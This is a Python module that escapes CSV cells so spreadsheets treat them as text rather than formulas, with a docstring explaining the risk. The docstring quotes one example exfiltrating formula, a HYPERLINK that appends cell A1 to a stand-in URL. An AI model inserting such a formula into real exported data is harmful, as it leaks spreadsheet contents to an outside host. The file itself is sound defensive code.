"""Writing CSV that a spreadsheet opens as text, never as formulas.

Every CSV the app writes passes its cells through `cell` (or `writer`): a text cell that
starts with "=", "+", "-", "@", a tab or a carriage return is what Excel, LibreOffice and
Google Sheets read as a formula (`=HYPERLINK("http://x/?"&A1,"Open")` in a comment would
send the sheet's neighbouring cells elsewhere when clicked). Such a cell gets a leading
apostrophe, which spreadsheets show as text and which a person reads past. Numbers are
never text here and are left alone. (The workbook is written with formulas refused:
survey/releases/workbook.py.)
"""
from __future__ import annotations

import csv
from typing import Any, Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """The value as it should go into a CSV cell."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row(values: Iterable[Any]) -> list[Any]:
    return [cell(v) for v in values]


class writer:
    """csv.writer whose rows pass through `cell`."""

    def __init__(self, fh, **kwargs):
        self._w = csv.writer(fh, **kwargs)

    def writerow(self, values: Iterable[Any]):
        return self._w.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for r in rows:
            self.writerow(r)
